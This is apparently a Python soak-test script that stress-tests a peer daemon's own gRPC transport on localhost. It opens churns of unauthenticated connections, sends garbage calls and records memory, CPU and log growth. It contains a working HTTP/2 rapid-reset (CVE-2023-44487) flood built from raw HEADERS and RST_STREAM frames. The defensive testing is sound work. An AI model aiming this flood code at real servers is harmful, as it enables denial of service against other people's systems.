"""Hostile soak: rounds of outsider connection churn against one peer; its RSS, log bytes and refusals.

The victim is a separate process (``python -m bench.hostile_soak --serve PORTFILE``) holding a real
``peerd.net.transport.Transport`` server with a swarm key, logging JSON lines through the daemon's
logging setup into a file. Each round opens ``connections`` fresh TCP connections at once (one
gRPC channel each, no shared subchannels), makes one call per connection without a credential
(a FetchState with an undecodable body, so a victim that parses before refusing is caught too),
and closes them all. After each round the victim's RSS (``/proc/PID/status`` VmRSS) is read once
it has settled. ``--rapid-reset N`` then opens N connections that each send HEADERS + RST_STREAM
pairs as fast as the victim reads them (HTTP/2 rapid reset, CVE-2023-44487) while an honest member
makes calls, and records what the victim spent and whether the member got through. ``--garbage N``
then sends N garbage-body calls without a credential and N with a member's (bench/garbage.py) and
records their status codes and the log bytes each batch made the victim write.
``--server-options bulk`` restores the transport's old server options (large TCP
read chunks) for comparison; ``--victim daemon`` runs a whole ``peerd join`` (training, DHT) with a
swarm secret instead, as an operator would. Output: bench/results/hostile.json.

    nice -n 10 python -m bench.hostile_soak                # 10 rounds x 500 connections
    nice -n 10 python -m bench.hostile_soak --server-options bulk --out /tmp/bulk.json
    nice -n 10 python -m bench.hostile_soak --victim daemon --out bench/results/hostile_daemon.json
    nice -n 10 python -m bench.hostile_soak --rounds 2 --rapid-reset 4 --garbage 1000
    nice -n 10 python -m bench.hostile_soak --victim daemon --connections 0 --out /tmp/control.json  # no attack
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
SECRET = "hostile-soak-secret-0123456789"
TARGET_TOTAL_MB, TARGET_LAST3_MB = 100.0, 5.0
# A small, quick daemon (the settings of the multi-process tests).
DAEMON_SETTINGS = [
    "transport.host=127.0.0.1", "dht.host=127.0.0.1", "round.round_s=2", "round.settle_s=0.15",
    "round.plan_slot_s=0.15", "round.plan_candidates=2", "train.log_every_s=2", "task_options.d_model=48",
    "task_options.n_layers=2", "task_options.seq_len=48", "data.max_corpus_bytes=1000000",
]


class _Sink:
    """Refuses every shard (the outsiders never get this far)."""

    async def admit(self, header: Any) -> float:
        from peerd.net.transport import Rejected

        raise Rejected(__import__("grpc").StatusCode.FAILED_PRECONDITION, "soak victim takes no shards")

    async def deliver(self, header: Any, payload: bytes) -> None:
        return None

    async def state_for(self, request: Any) -> Any:
        from peerd.net.transport import Rejected

        raise Rejected(__import__("grpc").StatusCode.FAILED_PRECONDITION, "soak victim serves no state")


async def _serve(port_file: Path, server_options: str) -> None:
    from peerd.core.config import load_config
    from peerd.core.log import setup_logging
    from peerd.net import auth, transport

    setup_logging("info", "json")
    if server_options == "bulk":  # large TCP reads on the server too (the transport's options before this soak)
        transport.SERVER_READ_OPTIONS = transport.CLIENT_READ_OPTIONS
    elif server_options == "plain":  # grpc's default TCP reads
        transport.SERVER_READ_OPTIONS = ()
    cfg = load_config(None, ["transport.host=127.0.0.1"])
    refused: collections.Counter[str] = collections.Counter()
    t = transport.Transport(cfg.transport, lambda d, n: None, lambda r: None,
                            security=cfg.security, key=auth.derive_key(SECRET, cfg.run_id, "rpc"), peer_id="victim",
                            on_refused=lambda reason: refused.update([reason]))
    port = await t.start(_Sink())
    port_file.write_text(str(port))
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(15, stop.set)
    await stop.wait()
    await t.stop(0)
    print(json.dumps({"refused": refused}), file=sys.stderr, flush=True)


def rss_mb(pid: int) -> float:
    """Resident set size of ``pid`` in MB (VmRSS)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for {pid}")


async def _one_connection(target: str, body: bytes) -> str:
    import grpc

    # A local subchannel pool: every channel is its own TCP connection and HTTP/2 handshake.
    async with grpc.aio.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
        try:
            async for _ in ch.unary_stream("/peerd.v1.Peer/FetchState")(body, timeout=30):
                pass
        except grpc.aio.AioRpcError as exc:
            return exc.code().name
    return "OK"


async def _round(target: str, connections: int) -> collections.Counter[str]:
    bodies = [os.urandom(32) for _ in range(connections)]
    results = await asyncio.gather(*(_one_connection(target, b) for b in bodies), return_exceptions=True)
    return collections.Counter(r if isinstance(r, str) else type(r).__name__ for r in results)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# HPACK, literal fields only (no dynamic table): POST http /peerd.v1.Peer/FetchState, gRPC content type.
_PATH = b"/peerd.v1.Peer/FetchState"
_HEADERS = (b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH + b"\x01\x01x\x0f\x10\x10application/grpc"
            + b"\x00\x02te\x08trailers")


def _rapid_reset(port: int, streams: int, budget_s: float) -> dict[str, Any]:
    """One connection: HEADERS then RST_STREAM(CANCEL) for ``streams`` streams, within ``budget_s``."""
    sent, outcome, deadline = 0, "sent all", time.monotonic() + budget_s
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
        stream = 1
        try:
            while sent < streams:
                if time.monotonic() > deadline:
                    outcome = "victim stopped reading"
                    break
                batch = bytearray()
                for _ in range(250):
                    batch += _frame(1, 0x4, stream, _HEADERS) + _frame(3, 0, stream, struct.pack(">I", 8))
                    stream += 2
                s.settimeout(max(0.1, deadline - time.monotonic()))
                s.sendall(batch)
                sent += 250
                with contextlib.suppress(BlockingIOError):
                    while s.recv(1 << 16, socket.MSG_DONTWAIT):
                        pass
        except TimeoutError:
            outcome = "victim stopped reading"
        except OSError:
            outcome = "victim closed the connection"
    return {"streams_sent": sent, "outcome": outcome}


async def _honest_calls(target: str, stop: asyncio.Event) -> collections.Counter[str]:
    import grpc

    from peerd import auth

    key, codes = auth.derive_key(SECRET, "peerd", "rpc"), collections.Counter[str]()
    async with grpc.aio.insecure_channel(target) as ch:
        while True:
            md = auth.credential(key, "member", "/peerd.v1.Peer/FetchState")
            try:
                async for _ in ch.unary_stream("/peerd.v1.Peer/FetchState")(b"", timeout=5, metadata=md):
                    pass
                codes["OK"] += 1
            except grpc.aio.AioRpcError as exc:  # FAILED_PRECONDITION: admitted, the victim serves no state
                codes[exc.code().name] += 1
            if stop.is_set():
                return codes
            await asyncio.sleep(0.2)


def rapid_reset(pid: int, target: str, connections: int, streams: int = 100_000,
                budget_s: float = 20.0) -> dict[str, Any]:
    """``connections`` rapid-reset connections at once, an honest member calling meanwhile."""
    port = int(target.rsplit(":", 1)[1])
    cpu0, rss0 = _cpu_s(pid), rss_mb(pid)

    async def go() -> tuple[list[dict[str, Any]], collections.Counter[str]]:
        stop = asyncio.Event()
        honest = asyncio.create_task(_honest_calls(target, stop))
        attacks = await asyncio.gather(*(asyncio.to_thread(_rapid_reset, port, streams, budget_s)
                                         for _ in range(connections)))
        stop.set()
        return attacks, await asyncio.wait_for(honest, 30)

    t0 = time.monotonic()
    attacks, honest = asyncio.run(go())
    return {"connections": connections, "attack_s": round(time.monotonic() - t0, 1), "per_connection": attacks,
            "victim_cpu_s": round(_cpu_s(pid) - cpu0, 2), "rss_before_mb": round(rss0, 1),
            "rss_after_mb": round(_settled_rss(pid), 1), "honest_codes": dict(honest)}


def _garbage(target: str, log_file: Path, n: int) -> dict[str, Any]:
    from bench.garbage import ODD, garbage_calls
    from peerd import auth

    port, key, out = int(target.rsplit(":", 1)[1]), auth.derive_key(SECRET, "peerd", "rpc"), {}
    for signed in (False, True):
        before = log_file.stat().st_size
        codes = asyncio.run(garbage_calls(port, key, signed=signed, n=n))
        out["member" if signed else "outsider"] = {"codes": {c.name: k for c, k in codes.items()},
                                                   "log_bytes": log_file.stat().st_size - before}
    return {**out, "unknown_or_internal": ODD[:5]}


def _cpu_s(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _settled_rss(pid: int, timeout_s: float = 10.0) -> float:
    """RSS once it stops moving (two readings 0.5 s apart within 1 MB), or the last reading."""
    deadline = time.monotonic() + timeout_s
    last = rss_mb(pid)
    while time.monotonic() < deadline:
        time.sleep(0.5)
        now = rss_mb(pid)
        if abs(now - last) < 1.0:
            return now
        last = now
    return last


def _start_victim(kind: str, server_options: str, tmp: Path, log: Any) -> tuple[subprocess.Popen[bytes], str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONUNBUFFERED": "1", "XDG_STATE_HOME": str(tmp / "state")}
    ready = tmp / "ready"
    if kind == "daemon":
        cmd = [sys.executable, "-m", "peerd", "join", "--ready-file", str(ready)]
        for item in DAEMON_SETTINGS:
            cmd += ["--set", item]
        env["PEERD_SECURITY__SECRET"] = SECRET
    else:
        cmd = [sys.executable, "-m", "bench.hostile_soak", "--serve", str(ready), "--server-options", server_options]
    victim = subprocess.Popen(cmd, stdout=log, stderr=log, env=env, cwd=ROOT, start_new_session=True)
    deadline = time.monotonic() + 180
    while not ready.exists() or not ready.read_text():
        if victim.poll() is not None or time.monotonic() > deadline:
            victim.kill()
            raise RuntimeError(f"victim did not start (exit {victim.poll()})")
        time.sleep(0.2)
    text = ready.read_text()
    return victim, (str(json.loads(text)["grpc"]) if kind == "daemon" else f"127.0.0.1:{text}")


def run(rounds: int = 10, connections: int = 500, server_options: str = "default",
        victim_kind: str = "transport", rapid_reset_connections: int = 0, idle_round_s: float = 5.0,
        garbage: int = 0) -> dict[str, Any]:
    """Start a victim, churn ``rounds`` x ``connections`` outsider connections, return the figures."""
    with tempfile.TemporaryDirectory() as tmp:
        log_file = Path(tmp) / "victim.log"
        with open(log_file, "wb") as log:
            victim, target = _start_victim(victim_kind, server_options, Path(tmp), log)
        try:
            log_before = log_file.stat().st_size
            start_rss = _settled_rss(victim.pid)
            rows = []
            codes: collections.Counter[str] = collections.Counter()
            for i in range(rounds):
                t0 = time.monotonic()
                if connections:
                    got = asyncio.run(_round(target, connections))
                else:  # control: the victim's own drift over a round's time, nobody attacking
                    time.sleep(idle_round_s)
                    got = collections.Counter()
                codes.update(got)
                rows.append({"round": i + 1, "rss_mb": round(_settled_rss(victim.pid), 1),
                             "round_s": round(time.monotonic() - t0, 2), "codes": dict(got),
                             "log_bytes": log_file.stat().st_size - log_before})
                print(f"round {i + 1}: rss {rows[-1]['rss_mb']} MB, {dict(got)}, log {rows[-1]['log_bytes']} B",
                      file=sys.stderr, flush=True)
            reset = rapid_reset(victim.pid, target, rapid_reset_connections) if rapid_reset_connections else None
            junk = _garbage(target, log_file, garbage) if garbage else None
            log_bytes = log_file.stat().st_size - log_before  # written while under attack
        finally:
            victim.terminate()
            try:
                victim.wait(30)
            except subprocess.TimeoutExpired:
                victim.kill()
                victim.wait(10)
        tail = log_file.read_text()[-600:]
    rss = [r["rss_mb"] for r in rows]
    growth = rss[-1] - start_rss
    last3 = max(rss[-3:]) - min(rss[-4:]) if len(rss) >= 4 else float("nan")
    return {
        "command": f"nice -n 10 python -m bench.hostile_soak --rounds {rounds} --connections {connections} "
                   f"--server-options {server_options} --victim {victim_kind}"
                   + (f" --rapid-reset {rapid_reset_connections}" if rapid_reset_connections else "")
                   + (f" --garbage {garbage}" if garbage else ""),
        "victim": victim_kind, "server_options": server_options, "rounds": rounds, "connections": connections,
        "start_rss_mb": round(start_rss, 1), "rows": rows, "rss_growth_mb": round(growth, 1),
        "rss_growth_last3_mb": round(last3, 1), "codes": dict(codes), "log_bytes": log_bytes, "log_tail": tail,
        "rapid_reset": reset, "garbage": junk,
        "targets": {"growth_mb_max": TARGET_TOTAL_MB, "last3_mb_max": TARGET_LAST3_MB,
                    "met": growth <= TARGET_TOTAL_MB and last3 < TARGET_LAST3_MB},
    }


def main(argv: list[str] | None = None) -> int:
    """CLI: ``--serve PORTFILE`` runs the victim; otherwise run the soak and write the JSON."""
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--serve", type=Path)
    ap.add_argument("--rounds", type=int, default=10)
    ap.add_argument("--connections", type=int, default=500)
    ap.add_argument("--server-options", choices=("default", "bulk", "plain"), default="default")
    ap.add_argument("--victim", choices=("transport", "daemon"), default="transport")
    ap.add_argument("--rapid-reset", type=int, default=0, metavar="N", help="then N rapid-reset connections")
    ap.add_argument("--garbage", type=int, default=0, metavar="N", help="then N garbage calls without and with "
                    "a credential")
    ap.add_argument("--idle-round-s", type=float, default=5.0, help="round length with --connections 0")
    ap.add_argument("--out", type=Path, default=ROOT / "bench" / "results" / "hostile.json")
    args = ap.parse_args(argv)
    if args.serve:
        asyncio.run(_serve(args.serve, args.server_options))
        return 0
    res = run(args.rounds, args.connections, args.server_options, args.victim, args.rapid_reset, args.idle_round_s,
              args.garbage)
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(res, indent=1) + "\n")
    print(json.dumps({k: v for k, v in res.items() if k not in ("rows", "log_tail")}, indent=1))
    return 0 if res["targets"]["met"] else 1


if __name__ == "__main__":
    sys.exit(main())
